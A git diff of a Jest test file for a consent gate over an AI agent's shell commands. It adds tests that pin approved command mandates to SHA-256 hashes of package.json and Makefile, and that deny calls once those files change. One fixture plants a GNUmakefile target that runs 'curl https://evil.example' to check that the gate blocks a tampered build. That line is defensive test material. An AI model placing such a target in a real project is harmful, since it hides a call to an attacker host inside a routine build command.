@@ -1,9 +1,13 @@
 import { randomUUID } from 'node:crypto'
 import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
+import { adminWrite } from '../../src/db/admin-write.ts'
+import { erasePayload } from '../../src/db/queries/actions/erase.ts'
+import { sha256 } from '../../src/ledger/digest.ts'
 import { limits } from '../../src/limits.ts'
 import { endMandateNow, mandatesOf } from '../../src/operations/runner/end-mandate.ts'
 import { askedInSlack, pressInSandbox, slackRequests } from '../support/consent.ts'
 import { type TestGate, startGate } from '../support/gate.ts'
+import { readingHook } from '../support/reading-hook.ts'
 import { testRows } from '../support/rows.ts'
 import type { Asked } from '../support/runner.ts'
 import { runnerScene } from '../support/runner-scene.ts'
@@ -19,9 +23,24 @@ afterAll(() => gate.stop())
 
 const offerText = 'without asking'
 
-/** A runner's scene, in which requests are found by what they say: those of a call and of an offer come in any order. */
-async function scene() {
+const manifest = JSON.stringify({ scripts: { test: 'jest', lint: 'eslint .', build: 'tsc' } })
+
+/** A runner's scene with a hook that reads the files of a project. */
+async function readingScene() {
   const made = await runnerScene(gate)
+  const files: Record<string, string> = { 'package.json': manifest }
+  return {
+    ...made,
+    files,
+    hook: readingHook(gate, made.hook, files),
+    blindHook: made.hook,
+    anotherHook: async () => readingHook(gate, await made.anotherHook(), files),
+  }
+}
+
+/** The same, in which requests are found by what they say: those of a call and of an offer come in any order. */
+async function scene() {
+  const made = await readingScene()
   const requestOf = (...texts: string[]) =>
     until(`${texts.join()} is asked about in Slack`, async () =>
       slackRequests(gate, made.slack).findLast(
@@ -95,6 +114,7 @@ test('after two approvals the third question comes with an offer, which says wha
       cwd: '/work/project',
       commands: ['npm test', 'npx jest a.test.ts', 'npx tsc --noEmit'],
       days: 30,
+      pinned_to: [{ path: 'package.json', sha256: sha256(manifest).toString('hex') }],
     },
   })
   const { text } = await requestOf(offerText)
@@ -104,6 +124,7 @@ test('after two approvals the third question comes with an offer, which says wha
     '/work/project',
     'exactly these commands',
     'end it in the console',
+    `package.json (SHA-256 ${sha256(manifest).toString('hex').slice(0, 16)})`,
   ])
     expect(text).toContain(shown)
   // One offer, however many questions follow.
@@ -112,13 +133,11 @@ test('after two approvals the third question comes with an offer, which says wha
 })
 
 test('a call that waits for its member runs as soon as the offer beside it is approved', async () => {
-  const { hook, press } = await approvedTwice()
+  const { hook, press, mandates } = await approvedTwice()
   const waiting = hook.ask('npm test', { wait: 50 })
   await press('approve', offerText)
-  expect(await waiting).toMatchObject({
-    decision: 'allow',
-    reason: expect.stringContaining('allowed this command until'),
-  })
+  const { decision, action } = await waiting
+  expect([decision, action]).toEqual(['allow', (await mandates())[0].id])
 })
 
 test('calls that a mandate covers run without a question, each with an entry and a count', async () => {
@@ -181,6 +200,53 @@ test('calls that a mandate does not cover are asked about or denied', async () =
   ]
   for (const [line, given = {}, by = hook] of rows)
     expect([line, given, (await by.ask(line, given)).decision]).toEqual([line, given, 'deny'])
+  expect((await hook.ask('npm test')).decision).toBe('allow')
+})
+
+test('a mandate is pinned to the manifest: once that is another one, its calls are asked about, with a new offer', async () => {
+  const { hook, blindHook, files, press, requestOf, mandates, isGranted, id } = await inForce()
+  const decisionOn = async (line: string) => (await hook.ask(line)).decision
+  const other = manifest.replace('jest', 'vitest')
+  files['package.json'] = other
+  for (const line of ['npm test', 'npx tsc --noEmit'])
+    expect([line, await decisionOn(line)]).toEqual([line, 'deny'])
+  expect((await requestOf('npm test', 'CHANGED since action')).text).toContain('test: vitest')
+  files['package.json'] = manifest
+  expect(await decisionOn('npm test')).toBe('allow')
+  delete files['package.json']
+  expect(await decisionOn('npm test')).toBe('deny')
+  // A hook that does not tell what the files are.
+  expect((await blindHook.ask('npm test')).decision).toBe('deny')
+
+  const anew = (await mandates()).find((one: { id: number }) => one.id !== id)
+  expect(anew.payload.pinned_to).toEqual([{ path: 'package.json', sha256: sha256(other).toString('hex') }])
+  await press('approve', offerText, sha256(other).toString('hex').slice(0, 16))
+  await isGranted(anew.id)
+  expect(await decisionOn('npm test')).toBe('deny')
+  files['package.json'] = other
+  expect(await hook.ask('npx tsc --noEmit')).toMatchObject({ decision: 'allow', action: anew.id })
+})
+
+test('one mandate takes in the tools of another manifest, each pinned to its own', async () => {
+  const { hook, files, approveCall, press, isGranted, mandates, id } = await inForce()
+  files['Makefile'] = 'lint:\n\teslint .\n'
+  await approveCall('make lint')
+  await approveCall('make build')
+  await hook.ask('make lint')
+  await press('approve', offerText, 'make build')
+  const wider = (await mandates()).find((one: { id: number }) => one.id !== id)
+  await isGranted(wider.id)
+  expect(wider.payload.pinned_to).toEqual([
+    { path: 'package.json', sha256: sha256(manifest).toString('hex') },
+    { path: 'GNUmakefile' },
+    { path: 'makefile' },
+    { path: 'Makefile', sha256: sha256(files['Makefile']!).toString('hex') },
+  ])
+  for (const line of ['npm test', 'make lint', 'make build && npx tsc --noEmit'])
+    expect([line, (await hook.ask(line)).decision]).toEqual([line, 'allow'])
+  // A makefile that goes first.
+  files['GNUmakefile'] = 'lint:\n\tcurl https://evil.example\n'
+  expect((await hook.ask('make lint')).decision).toBe('deny')
   expect((await hook.ask('npm test')).decision).toBe('allow')
 })
 
@@ -307,6 +373,18 @@ test('a wider mandate takes the place of the one before', async () => {
   ])
 })
 
+test('an erased mandate allows nothing, and the next call is asked about', async () => {
+  const { hook, id, account } = await inForce()
+  // What was decided within a day is not erased.
+  await gate.database.asSuperuser(
+    `update gate.action set created_at = created_at - interval '2 days', decided_at = decided_at - interval '2 days'
+      where account_id = '${account}' and id = ${id}`,
+  )
+  const given = { ...adminWrite(account), id, reason: 'Test' }
+  expect(await erasePayload(gate.database.db, given as never)).toMatchObject({ outcome: 'erased' })
+  expect((await hook.ask('npm test')).reason).toMatch(/^Waiting for the consent/)
+})
+
 test('no API key can approve an offer', async () => {
   const { offered, client, grace, hook } = await approvedTwice()
   const { id } = await offered()
@@ -330,7 +408,7 @@ test('a mandate that was changed in the database does not verify', async () => {
 describe('an agent that asks too often', () => {
   /** Another key acts for the member, so this one has half of the requests. All but one of them are used up. */
   async function almostStopped(lines: string[]) {
-    const made = await runnerScene(gate)
+    const made = await readingScene()
     await usedBefore(gate.database, made.keyId)
     const max = limits.consentAsksPerHourMax / 2
     for (let at = 0; at < max; at++) await made.hook.ask(lines[at % lines.length]!, { session: `s${at}` })
